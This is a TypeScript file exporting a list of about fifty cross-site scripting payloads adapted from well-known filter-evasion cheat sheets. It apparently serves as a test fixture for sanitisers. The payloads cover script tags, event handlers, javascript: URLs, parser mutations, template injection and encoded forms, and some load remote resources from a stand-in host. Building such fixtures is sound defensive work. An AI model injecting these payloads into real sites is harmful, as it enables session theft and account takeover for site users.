/**
 * Text that becomes script wherever a page takes it for markup, an address, a template or style. Of each class in
 * OWASP's "XSS Filter Evasion Cheat Sheet" and PortSwigger's "Cross-site scripting cheat sheet" that a current Chromium
 * carries out. Whichever of them runs opens a dialog, leaves `__ran` behind, or sends a request to `xss.invalid`.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script elements, and ways out of what they may stand in.
  '<script>alert(1)</script>',
  '<ScRiPt>globalThis.__ran=1</sCrIpT>',
  '<script src=//xss.invalid/x.js></script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // Events of elements.
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=globalThis.__ran=1>',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  // Attributes that are left early.
  '" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '` onmouseover=alert(1) `',
  // Addresses.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  // Documents in the document.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  // What a parser makes of its own output.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Requests without script.
  '<base href="//xss.invalid/">',
  '<meta http-equiv="refresh" content="0;url=//xss.invalid/">',
  '<link rel=stylesheet href="//xss.invalid/x.css">',
  '<style>@import url(//xss.invalid/x.css);</style>',
  '<div style="background:url(//xss.invalid/x.png)">x</div>',
  '<img srcset="//xss.invalid/x.png 1x">',
  // Templates, Markdown, and what is decoded once too often.
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '[x](javascript:alert(1)) ![x](//xss.invalid/x.png)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];
